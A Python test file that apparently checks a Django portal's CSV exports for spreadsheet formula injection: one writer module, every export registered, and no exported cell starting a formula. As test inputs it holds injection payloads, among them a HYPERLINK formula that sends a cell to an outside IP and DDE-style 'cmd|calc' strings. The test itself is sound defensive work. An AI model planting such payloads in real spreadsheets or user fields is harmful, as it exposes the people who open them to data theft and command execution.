"""CSV exports as a class (issue 12, item 7): one CSV writer, and no cell a formula.

1. An AST scan of the code: ``csv.writer`` / ``csv.DictWriter`` appear in ``portal/csv_export.py``
   and nowhere else, so a new export cannot write cells past the neutralising writer.
2. The resolved URLconf: every view whose module uses that writer is an export this test knows
   how to feed; a new one fails here until it is added to ``FEEDERS``.
3. Each export gets formulas through the real forms and pages (a sign-in name, a typed case
   reference, a learner's name, a course title), and no cell of the download starts a formula.
"""

from __future__ import annotations

import ast
import csv
import importlib
import inspect
import io
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from portal.csv_export import neutralise

ROOT = Path(__file__).resolve().parents[2]
CODE = ("collaboration", "content", "portal")
THE_WRITER = Path("portal/csv_export.py")
FORMULA = '=HYPERLINK("http://203.0.113.9/?x="&A1,"klik")'
REFERENCE_FORMULA = "=cmd|'calc'!A0"  # no slash: it goes into a URL path segment
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _python_files() -> Iterator[Path]:
    for top in CODE:
        for path in sorted((ROOT / top).rglob("*.py")):
            if "migrations" not in path.parts:
                yield path


def _csv_writers_in(path: Path) -> list[str]:
    """Every use of the csv module's writers in ``path``, aliases included."""
    tree = ast.parse(path.read_text(), filename=str(path))
    modules = {"csv"}
    found: list[str] = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            modules |= {alias.asname or alias.name for alias in node.names if alias.name == "csv"}
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [
                f"{path}:{node.lineno} from csv import {alias.name}"
                for alias in node.names
                if alias.name in ("writer", "DictWriter", "*")
            ]
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id in modules
        ):
            found.append(f"{path}:{node.lineno} {node.value.id}.{node.attr}")
    return found


def test_csv_is_written_in_one_module_only() -> None:
    files = list(_python_files())
    assert len(files) > 100  # the scan sees the code base
    others = [
        use
        for path in files
        if path.relative_to(ROOT) != THE_WRITER
        for use in _csv_writers_in(path)
    ]
    assert others == [], "write CSV through portal.csv_export, not csv.writer"
    assert _csv_writers_in(ROOT / THE_WRITER)  # and the one module does use it


def test_the_scan_finds_what_it_looks_for(tmp_path: Path) -> None:
    sample = tmp_path / "sample.py"
    sample.write_text("import csv as c\nfrom csv import DictWriter\nw = c.writer(None)\n")
    assert len(_csv_writers_in(sample)) == 2


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 9 123", "'+31 9 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\n@x", "'\n@x"),
        ("Jan", "Jan"),
        ("a=b", "a=b"),
        (-5, -5),
        (None, ""),
    ],
)
def test_neutralise(value: Any, written: Any) -> None:
    assert neutralise(value) == written


def _patterns(resolver: URLResolver, prefix: str = "") -> Iterator[tuple[str, URLPattern]]:
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            yield from _patterns(entry, prefix + str(entry.pattern))
        else:
            yield prefix + str(entry.pattern), entry


def _uses_the_writer(pattern: URLPattern) -> bool:
    """Whether the view's own code calls the CSV writer (a helper it calls counts too: the
    module's helpers are read when the view names them)."""
    view = getattr(pattern.callback, "view_class", pattern.callback)
    view = inspect.unwrap(view)
    module = importlib.import_module(view.__module__)
    source = inspect.getsource(view)
    names = {name for name in re.findall(r"\b(\w+)\(", source)}
    helpers = [
        getattr(module, name) for name in names if inspect.isfunction(getattr(module, name, None))
    ]
    return any(
        re.search(r"\bcsv_(response|lines)\(", inspect.getsource(code)) for code in [view, *helpers]
    )


def export_view_names() -> set[str]:
    names = set()
    for _route, pattern in _patterns(get_resolver()):
        if _uses_the_writer(pattern):
            names.add(f"{pattern.callback.__module__}.{pattern.callback.__name__}")
    return names


def _cells(body: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=delimiter))


def _body(response: Any) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def _failed_sign_in(name: str) -> None:
    """Type ``name`` into the real sign-in form (the first step of the wizard)."""
    client = Client()
    page = client.get(reverse("two_factor:login")).content.decode()
    step = re.search(r'name="([\w-]+-current_step)"', page).group(1)
    client.post(
        reverse("two_factor:login"),
        {step: "auth", "auth-username": name, "auth-password": "wat-dan-ook-12345"},
    )


def feed_audit_export(fx: dict[str, Any]) -> tuple[Client, str, str, list[str]]:
    """A formula as a sign-in name (read by the operators) and as a case reference typed by a
    partner of the region (read by the region's privacy officer)."""
    people = fx["world"]
    _failed_sign_in(FORMULA)
    fx["verified_client"](people.caw_partner).get(
        f"/samenwerking/dossiers/{quote(REFERENCE_FORMULA)}/"
    )
    operator = fx["make_user"](email="beheer@platform.example", is_superuser=True, is_staff=True)
    return (
        fx["verified_client"](operator),
        reverse("audit:export"),
        ",",
        [FORMULA, REFERENCE_FORMULA],
    )


def feed_audit_export_as_officer(fx: dict[str, Any]) -> tuple[Client, str, str, list[str]]:
    people = fx["world"]
    fx["verified_client"](people.caw_partner).get(
        f"/samenwerking/dossiers/{quote(REFERENCE_FORMULA)}/"
    )
    return fx["verified_client"](people.privacy), reverse("audit:export"), ",", [REFERENCE_FORMULA]


def feed_training_report(fx: dict[str, Any]) -> tuple[Client, str, str, list[str]]:
    """A learner named as a formula, in a course titled as one, reported to their manager."""
    from collaboration.models import Membership, Role
    from content.training.models import LearnerProfile
    from content.training.services.learning import enrolment_create

    people, make_user = fx["world"], fx["make_user"]
    course = fx["make_course"](lessons=0, title="@SUM(1+1)*cmd|' /C calc'!A0")
    learner = make_user(email="lerende@csv.example", full_name="-2+3+cmd|' /C calc'!A0")
    LearnerProfile.objects.update_or_create(user=learner, defaults={"organisation": people.caw})
    enrolment_create(user=learner, course=course)
    manager = make_user(email="beheer@caw.example")
    Membership.objects.create(user=manager, organisation=people.caw, role=Role.ORGANISATION_ADMIN)
    return (
        fx["verified_client"](manager),
        reverse("training:report_csv"),
        ";",
        [learner.full_name, course.title],
    )


# view (module.name) -> feeders that put formulas into it and say how to read it back
FEEDERS: dict[str, list[Callable[[dict[str, Any]], tuple[Client, str, str, list[str]]]]] = {
    "portal.audit.views.audit_export": [feed_audit_export, feed_audit_export_as_officer],
    "content.training.views.reports.report_csv": [feed_training_report],
}


def test_every_export_in_the_urlconf_is_fed_a_formula() -> None:
    assert export_view_names() == set(FEEDERS), "a new CSV export needs its feeder in FEEDERS"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "feeder",
    [feeder for feeders in FEEDERS.values() for feeder in feeders],
    ids=lambda feeder: feeder.__name__,
)
def test_no_exported_cell_is_a_formula(
    feeder: Callable[..., Any],
    world: Any,
    make_user: Callable[..., Any],
    verified_client: Callable[..., Client],
    make_course: Callable[..., Any],
) -> None:
    fixtures = {
        "world": world,
        "make_user": make_user,
        "verified_client": verified_client,
        "make_course": make_course,
    }
    client, url, delimiter, typed = feeder(fixtures)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment")
    assert "no-store" in response["Cache-Control"]
    rows = _cells(_body(response), delimiter)
    cells = [cell for row in rows for cell in row]
    for text in typed:  # it got there, as text
        assert "'" + text in cells or any(("'" + text) in cell for cell in cells), text
    dangerous = [cell for cell in cells if cell[:1] in DANGEROUS]
    assert dangerous == []
